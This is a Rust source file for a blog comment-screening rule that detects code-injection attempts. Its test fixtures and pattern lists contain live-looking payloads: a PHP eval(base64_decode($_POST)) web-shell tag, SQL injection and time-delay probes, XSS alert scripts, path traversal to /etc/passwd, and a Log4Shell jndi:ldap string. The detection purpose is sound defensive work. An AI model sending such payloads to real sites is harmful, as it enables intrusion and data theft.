//! Finds code that is meant for the blog's software and not for its readers.

use serde::Deserialize;

use super::{Check, Finding, Rule, from_options};
use crate::domain::{Field, Group};
use crate::screening::case::Case;
use crate::screening::facts::Span;

/// The rule.
pub const RULE: Rule = Rule {
    id: "code_injection",
    group: Group::Text,
    summary: "The comment contains code that caches or plugins of blogs would run, or is nothing but a probe of its database or pages.",
    why: "Scanners look for blogs that run what is sent to them. Readers who talk of code say something of it, or mark it as code.",
    certain: false,
    fires: &[
        r#"{"content": "<!--mfunc eval(base64_decode($_POST['x'])); --><!--/mfunc-->"}"#,
        r#"{"content": "Hello <!-- dynamic-cached-content --><?php phpinfo(); ?>"}"#,
        r#"{"content": "See `this` <!--mfunc system('id'); -->", "format": "markdown"}"#,
        r#"{"content": "1' OR '1'='1"}"#,
        r#"{"content": "'; waitfor delay '0:0:15' --"}"#,
        r#"{"content": "\"><script>alert(1)</script>"}"#,
        r#"{"content": "${jndi:ldap://x.example/a}"}"#,
    ],
    passes: &[
        r#"{"content": "Our scanner typed ' OR 1=1 -- into the search box and got every row of the table back."}"#,
        r#"{"content": "`<?php phpinfo(); ?>` shows it", "format": "markdown"}"#,
        r#"{"content": "<code><!--mfunc --></code> is what the cache runs", "format": "html"}"#,
        r#"{"content": "A page of mine begins with <?php $title = 'x'; and then nothing is shown"}"#,
        r#"{"content": "SELECT name FROM users"}"#,
        r#"{"content": "Union select committee, 1=1?"}"#,
        r#"{"content": "<script src=x> in a comment is dropped, I think"}"#,
    ],
    build: from_options::<CodeInjection>,
};

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct CodeInjection {}

/// What caches and plugins of blogs have run, in lower case, without spaces.
const RUN: &[&str] = &[
    "<!--mfunc",
    "<!--mclude",
    "<!--dynamic-cached-content",
    "<?phpphpinfo()",
    "<?phpeval(",
    "<?php@eval(",
    "<?phpsystem(",
    "<?phpexec(",
    "<?phppassthru(",
    "<?phpshell_exec(",
    "eval(base64_decode(",
    "[captioncode=",
];

/// How scanners ask whether what they send is run, in lower case, without spaces.
const PROBES: &[&str] = &[
    "'or'1'='1",
    "\"or\"1\"=\"1",
    "'or1=1",
    "\"or1=1",
    "')or('1'='1",
    "unionallselect",
    "'unionselect",
    "andsleep(",
    "'andsleep",
    "waitfordelay'",
    "pg_sleep(",
    "benchmark(",
    "extractvalue(",
    "<script>alert(",
    "<script>prompt(",
    "<script>confirm(",
    "onerror=alert(",
    "onload=alert(",
    "javascript:alert(",
    "../../etc/passwd",
    "../../windows/win.ini",
    "${jndi:",
    "{{7*7}}",
];

/// The most words of letters that a comment has which is nothing but a probe.
const MOST_WORDS: usize = 8;

/// The longest such comment, in bytes.
const LONGEST: usize = 400;

/// The most code that is looked through, in bytes.
const MOST_CODE: usize = 16_384;

impl Check for CodeInjection {
    fn check(&self, case: &Case<'_>) -> Option<Finding> {
        let facts = case.facts;
        let content: &str = &facts.submission().content;
        if !content.contains(['<', '\'', '"', '(', '[', '{']) && !content.contains("../") {
            return None;
        }
        let squeezed = Squeezed::of(content);
        if let Some(span) = squeezed.find(RUN).filter(|span| !is_in_code(content, span.0)) {
            return Some(Finding::new(
                "It contains code for the blog's software to run.",
                vec![facts.evidence(Field::Content, span)],
            ));
        }
        let is_short = content.len() <= LONGEST && facts.words().count <= MOST_WORDS;
        let span = squeezed.find(PROBES).filter(|span| is_short && !is_in_code(content, span.0))?;
        Some(Finding::new(
            "It is nothing but a probe of the blog's software.",
            vec![facts.evidence(Field::Content, span)],
        ))
    }
}

/// Whether what stands here is marked as code.
fn is_in_code(content: &str, at: usize) -> bool {
    let before = &content[..at];
    let is_open = |(open, close): (&str, &str)| before.rfind(open).is_some_and(|open| before.rfind(close) < Some(open));
    let quotes = before.bytes().filter(|byte| *byte == b'`').count();
    quotes % 2 == 1 || [("<code", "</code"), ("<pre", "</pre"), ("[code", "[/code")].into_iter().any(is_open)
}

/// A text in lower case without white space, and where each byte of it was.
struct Squeezed {
    text: String,
    places: Vec<usize>,
}

impl Squeezed {
    fn of(content: &str) -> Self {
        let mut squeezed = Self { text: String::new(), places: Vec::new() };
        let kept = content.char_indices().take_while(|&(at, _)| at < MOST_CODE).filter(|(_, c)| !c.is_whitespace());
        for (at, c) in kept {
            squeezed.text.push(c.to_ascii_lowercase());
            squeezed.places.resize(squeezed.text.len(), at);
        }
        squeezed
    }

    fn find(&self, patterns: &[&str]) -> Option<Span> {
        let found = patterns.iter().find_map(|pattern| Some((self.text.find(pattern)?, pattern.len())));
        found.map(|(at, length)| (self.places[at], self.places[at + length - 1] + 1))
    }
}
